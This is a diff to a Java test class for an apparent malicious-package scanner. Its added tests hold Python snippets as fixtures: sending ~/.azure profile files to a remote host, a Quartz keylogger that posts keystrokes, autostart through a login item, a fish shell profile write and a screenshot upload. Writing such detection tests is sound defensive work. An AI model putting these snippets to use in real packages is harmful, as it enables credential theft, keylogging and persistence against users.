@@ -173,6 +173,58 @@ class ContentRuleTest {
   }
 
   @Test
+  void aPackagesOwnHiddenDirectoryIsNotAnotherProgramsSecret() {
+    String own =
+        "import os, requests\n"
+            + "CFG = os.path.expanduser('~/.mailer/config')\n"
+            + "settings = open(CFG).read()\n"
+            + "requests.post('https://mailer.example/sync', data=settings)\n";
+    String configDir = own.replace("~/.mailer/", "~/.config/mailer/");
+    String another = own.replace("~/.mailer/config", "~/.azure/azureProfile.json");
+
+    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", own))).isEmpty();
+    assertThat(check("mailer", Map.of(), wheelWith("mailer/send.py", configDir))).isEmpty();
+    assertThat(check("other", Map.of(), wheelWith("other/send.py", own)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .containsExactly("sends-home-file");
+    assertThat(
+            only(check("mailer", Map.of(), wheelWith("mailer/send.py", another)), "sends-home-file")
+                .level())
+        .isEqualTo(RiskLevel.HIGH);
+    // a module it ships does not make a directory its own: it could name one after any program
+    assertThat(check("helper", Map.of(), wheelWith("azure/__init__.py", another)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .containsExactly("sends-home-file");
+  }
+
+  @Test
+  void platformHooksForKeysLogInsAndScreensAreKnown() {
+    String quartz =
+        "import Quartz, requests\n"
+            + "tap = Quartz.CGEventTapCreate(Quartz.kCGSessionEventTap, 0, 1,"
+            + " Quartz.CGEventMaskBit(Quartz.kCGEventKeyDown), cb, None)\n"
+            + "requests.post(URL, json=keys)\n";
+    String loginItem =
+        "import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\""
+            + " to make login item at end with properties {path:\"/x\"}'])\n";
+    String fish =
+        "import os\np = os.path.join(os.path.expanduser('~'), '.config', 'fish', 'config.fish')\n"
+            + "with open(p, 'a') as f:\n    f.write('python -m pkg.agent &')\n";
+    String magick =
+        "import subprocess, requests\nsubprocess.run(['import', '-window', 'root', shot])\n"
+            + "with open(shot, 'rb') as f:\n    requests.post(URL, files={'f': f})\n";
+
+    assertThat(only(check(wheelWith("pkg/k.py", quartz)), "keylogger-sent").level())
+        .isEqualTo(RiskLevel.CRITICAL);
+    assertThat(only(check(wheelWith("pkg/m.py", loginItem)), "installs-autostart").level())
+        .isEqualTo(RiskLevel.HIGH);
+    assertThat(only(check(wheelWith("pkg/f.py", fish)), "shell-profile-written").level())
+        .isEqualTo(RiskLevel.MEDIUM);
+    assertThat(only(check(wheelWith("pkg/s.py", magick)), "sends-secrets").level())
+        .isEqualTo(RiskLevel.HIGH);
+  }
+
+  @Test
   void aCrontabReplacedThroughStandardInputIsPersistence() {
     String cron =
         "import subprocess, sys\n"
@@ -676,7 +728,7 @@ class ContentRuleTest {
           .containsExactly("credentials-sent");
       assertThat(check(wheelWith("pkg/sync.py", slashes)))
           .extracting(f -> f.evidence().values().get("pattern"))
-          .containsExactly("credentials-sent");
+          .containsExactly("credentials-sent", "sends-home-file"); // home is named here
       assertThat(check(wheelWith("pkg/sync.py", words))).isEmpty();
     }
 
